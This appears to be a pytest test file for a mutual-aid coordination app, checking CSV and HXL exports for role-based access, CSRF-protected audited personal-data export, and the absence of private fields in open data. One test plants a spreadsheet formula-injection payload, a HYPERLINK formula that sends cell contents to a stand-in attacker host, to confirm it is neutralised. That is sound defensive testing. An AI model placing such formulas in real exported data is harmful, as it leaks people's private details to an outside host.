"""Data out: the coordinators' CSV (personal data only when confirmed, and audited) and HXL open data."""
import csv
import io
import re
import secrets
from dataclasses import dataclass

import pytest
import sqlalchemy as sa

from aid.extensions import db
from aid.models import Event, LocationStatus, Match, MatchState, Need, NeedStatus, Region, Slot, User, utcnow
from tests.conftest import PASSWORD
from tests.factories import add_coordinator, add_union, add_volunteer, login

SECRET_WORDS = ("SECRET-DETAILS", "Hidden Lane", "Hester Hidden", "07700 9004", "hidden@example.net")
EXACT = {1: (50.8741234, 0.0087654), 2: (50.8712345, 0.0123456), 3: (50.8598765, 0.0598765), 4: (51.4567891, -2.5876543)}
CELLS = {1: (50.874, 0.009), 2: (50.871, 0.012), 3: (50.86, 0.06), 4: (51.457, -2.588)}


@dataclass
class World:
    lewes: int
    lewes_open: int
    ringmer: int
    bristol: int
    unrouted: int


def add_need(union, n, **fields):
    """A need carrying recognisable private data: details, address, contact, and an exact point."""
    lat, lon = EXACT.get(n, (None, None))
    cell = CELLS.get(n, (None, None))
    values = dict(
        union_id=union.id if union else None, category="food", urgency="normal", people=1,
        details=f"SECRET-DETAILS-{n}", address=f"{n} Hidden Lane", contact_name=f"Hester Hidden{n}",
        contact_phone=f"07700 9004{n:02d}", contact_email="hidden@example.net", lat=lat, lon=lon,
        cell_lat=cell[0], cell_lon=cell[1], token_hash=secrets.token_hex(32),
        location_status=LocationStatus.FOUND if lat is not None else LocationStatus.NOT_FOUND)
    values.update(fields)
    need = Need(**values)
    db.session.add(need)
    db.session.commit()
    return need


@pytest.fixture
def world(app):
    """Lewes and Ringmer in one region, Bristol alone; a coordinator each for Lewes and Bristol."""
    with app.app_context():
        region = Region(name="East Sussex")
        db.session.add(region)
        lewes, ringmer, bristol = add_union("Lewes"), add_union("Ringmer", lat=50.89, lon=0.05), \
            add_union("Bristol", lat=51.45, lon=-2.58)
        lewes.region = ringmer.region = region
        db.session.commit()
        add_coordinator(lewes, "Rosa Coord")
        add_coordinator(bristol, "Otto Other")
        volunteer, decliner = add_volunteer("Vic Volunteer", union=lewes), add_volunteer("Dee Decliner", union=lewes)
        taken = add_need(lewes, 1, status=NeedStatus.ASSIGNED, urgency="high", first_accepted_at=utcnow())
        slot = Slot(need_id=taken.id, volunteer_id=volunteer.id)
        db.session.add(slot)
        db.session.flush()
        db.session.add_all([  # one helper: a volunteer who said no did not help
            Match(need_id=taken.id, slot_id=slot.id, volunteer_id=volunteer.id, state=MatchState.ACCEPTED),
            Match(need_id=taken.id, slot_id=slot.id, volunteer_id=decliner.id, state=MatchState.DECLINED)])
        db.session.commit()
        return World(lewes=taken.id, lewes_open=add_need(lewes, 2).id, ringmer=add_need(ringmer, 3).id,
                     bristol=add_need(bristol, 4).id, unrouted=add_need(None, 5).id)


def as_user(app, email=None):
    client = app.test_client()
    if email:
        login(client, email)
    return client


def rows(response):
    assert response.status_code == 200, response.data[:500]
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def personal_export(client):
    return client.post("/board/export.csv", data={"personal": "1"})


def exported_events(app):
    with app.app_context():
        return db.session.execute(sa.select(Event.need_id, Event.user_id, Event.actor, Event.detail)
                                  .where(Event.kind == "exported").order_by(Event.need_id)).all()


ROUTES = {
    "page": lambda c: c.get("/board/exports"),
    "csv": lambda c: c.get("/board/export.csv"),
    "personal": personal_export,
    "open-data": lambda c: c.get("/board/open-data.csv"),
}
ROLES = {
    "anonymous": None, "volunteer": "vic.volunteer@example.org",
    "coordinator": "rosa.coord@example.org", "other-coordinator": "otto.other@example.org",
}


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("role", ROLES)
def test_export_routes_are_for_coordinators_and_show_only_their_unions_needs(app, world, role, route):
    response = ROUTES[route](as_user(app, ROLES[role]))
    if role == "anonymous":
        assert response.status_code == 302 and response.headers["Location"].startswith("/login")
    elif role == "volunteer":
        assert response.status_code == 403
    elif route == "page":
        assert response.status_code == 200 and b'action="/board/export.csv"' in response.data
    else:
        union_column = rows(response)[0].index("union")
        unions = {line[union_column] for line in rows(response)[1:]}
        assert ("Lewes" in unions) == (role == "coordinator")
        assert ("Bristol" in unions) == (role == "other-coordinator")


def test_plain_export_has_one_coarse_line_per_visible_need_and_no_personal_data(app, world):
    response = as_user(app, ROLES["coordinator"]).get("/board/export.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="needs-\d{8}-\d{4}\.csv"', response.headers["Content-Disposition"])
    header, *lines = rows(response)
    assert header == ["id", "created_at", "category", "urgency", "status", "union", "cell_lat", "cell_lon", "people",
                      "first_accepted_at", "closed_at", "helpers"]
    by_id = {int(line[0]): dict(zip(header, line, strict=True)) for line in lines}
    assert set(by_id) == {world.lewes, world.lewes_open}  # not Ringmer's, not Bristol's, not the unrouted one
    taken = by_id[world.lewes]
    assert (taken["status"], taken["urgency"], taken["union"], taken["helpers"]) == ("assigned", "high", "Lewes", "1")
    assert (float(taken["cell_lat"]), float(taken["cell_lon"])) == CELLS[1]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", taken["first_accepted_at"]) and taken["closed_at"] == ""
    assert by_id[world.lewes_open]["helpers"] == "0"
    text = response.data.decode()
    assert not any(word in text for word in SECRET_WORDS)
    assert str(EXACT[1][0]) not in text and str(EXACT[1][1]) not in text


def test_plain_export_writes_no_audit_event(app, world):
    rows(as_user(app, ROLES["coordinator"]).get("/board/export.csv"))
    assert exported_events(app) == []


def test_personal_export_adds_private_columns_and_one_audit_event_per_exported_need(app, world):
    with app.app_context():
        before = db.session.scalar(sa.select(sa.func.count(Event.id)))
    header, *lines = rows(personal_export(as_user(app, ROLES["coordinator"])))
    assert header[-8:] == ["details", "address", "lat", "lon", "contact_name", "contact_phone", "contact_email",
                           "on_site_name"]
    line = next(dict(zip(header, line, strict=True)) for line in lines if line[0] == str(world.lewes))
    assert (line["details"], line["address"], line["contact_name"]) == ("SECRET-DETAILS-1", "1 Hidden Lane", "Hester Hidden1")
    assert (float(line["lat"]), float(line["lon"])) == EXACT[1]
    events = exported_events(app)
    with app.app_context():
        rosa = db.session.scalar(sa.select(User.id).where(User.email == ROLES["coordinator"]))
        assert db.session.scalar(sa.select(sa.func.count(Event.id))) == before + 2  # nothing else written
    assert [e.need_id for e in events] == sorted([world.lewes, world.lewes_open])  # an unrouted need is nobody's
    assert {(e.user_id, e.actor, e.detail) for e in events} == {
        (rosa, "Rosa Coord", "Personal data exported by Rosa Coord")}


def test_personal_data_is_never_sent_for_a_get_even_with_personal_1(app, world):
    response = as_user(app, ROLES["coordinator"]).get("/board/export.csv?personal=1")
    assert response.status_code == 303 and response.headers["Location"] == "/board/exports#personal"
    assert b"SECRET" not in response.data and exported_events(app) == []


def test_personal_export_is_refused_without_a_csrf_token_and_writes_nothing(make, world):
    app = make(WTF_CSRF_ENABLED=True)
    coordinator = as_user(app, None)
    token = re.search(rb'name="csrf_token" type="hidden" value="([^"]+)"', coordinator.get("/login").data).group(1)
    coordinator.post("/login", data={"email": ROLES["coordinator"], "password": PASSWORD,
                                     "csrf_token": token.decode()})
    refused = personal_export(coordinator)
    assert refused.status_code == 400 and b"SECRET" not in refused.data and exported_events(app) == []
    page = coordinator.get("/board/exports").data.decode()
    form = re.search(r'<form method="post" action="/board/export.csv">(.*?)</form>', page, re.S).group(1)
    assert "personal data" in form and "recorded" in page  # the confirmation says what it does
    fields = dict(re.findall(r'name="(\w+)" value="([^"]+)"', form))
    confirmed = coordinator.post("/board/export.csv", data=fields)
    assert "SECRET-DETAILS-1" in confirmed.data.decode() and len(exported_events(app)) == 2


def test_a_post_without_personal_1_exports_nothing(app, world):
    response = as_user(app, ROLES["coordinator"]).post("/board/export.csv", data={})
    assert response.status_code == 400 and exported_events(app) == []


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(app, world):
    with app.app_context():
        union = db.session.get(Need, world.lewes).union
        add_need(union, 6, details='=HYPERLINK("http://evil.example/?"&A1)', contact_name="@SUM(A1:A9)",
                 address="+1 Main Street", contact_phone="-2+3", contact_email="\tcmd", cell_lon=-0.125)
    header, *lines = rows(personal_export(as_user(app, ROLES["coordinator"])))
    line = dict(zip(header, lines[-1], strict=True))
    assert line["details"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert (line["contact_name"], line["address"], line["contact_phone"], line["contact_email"]) == (
        "'@SUM(A1:A9)", "'+1 Main Street", "'-2+3", "'\tcmd")
    assert line["cell_lon"] == "-0.125"  # numbers keep their sign: only text is neutralised


def test_open_data_covers_the_region_with_an_hxl_row_and_nothing_personal(app, world):
    response = as_user(app, ROLES["coordinator"]).get("/board/open-data.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="open-data-')
    assert not response.data.startswith(b"\xef\xbb\xbf")  # programs read it: no byte-order mark
    header, hashtags, *lines = rows(response)
    assert header == ["category", "cell_lat", "cell_lon", "union", "region", "created_at", "first_accepted_at",
                      "closed_at", "status"]
    assert hashtags == ["#need+type", "#geo+lat", "#geo+lon", "#org+name+impl", "#org+name+federation",
                        "#date+reported", "#date+accepted", "#date+end", "#status+code"]
    assert sorted(line[3] for line in lines) == ["Lewes", "Lewes", "Ringmer"]  # the whole region, not Bristol
    assert {line[4] for line in lines} == {"East Sussex"}
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\dZ", lines[0][5])  # to the minute
    text = response.data.decode()
    assert not any(word in text for word in SECRET_WORDS)
    for lat, lon in EXACT.values():
        assert str(lat) not in text and str(lon) not in text


def test_open_data_of_a_union_without_a_region_covers_only_that_union(app, world):
    header, _tags, *lines = rows(as_user(app, ROLES["other-coordinator"]).get("/board/open-data.csv"))
    assert [(line[3], line[4]) for line in lines] == [("Bristol", "")]


def test_exports_page_links_both_downloads_as_plain_navigations(app, world):
    page = as_user(app, ROLES["coordinator"]).get("/board/exports").data.decode()
    assert 'href="/board/export.csv"' in page and 'href="/board/open-data.csv"' in page
    assert 'hx-boost="false"' in page  # a boosted link would load the file into the page
    assert "the 2 needs" in page and "behind 2 needs" in page
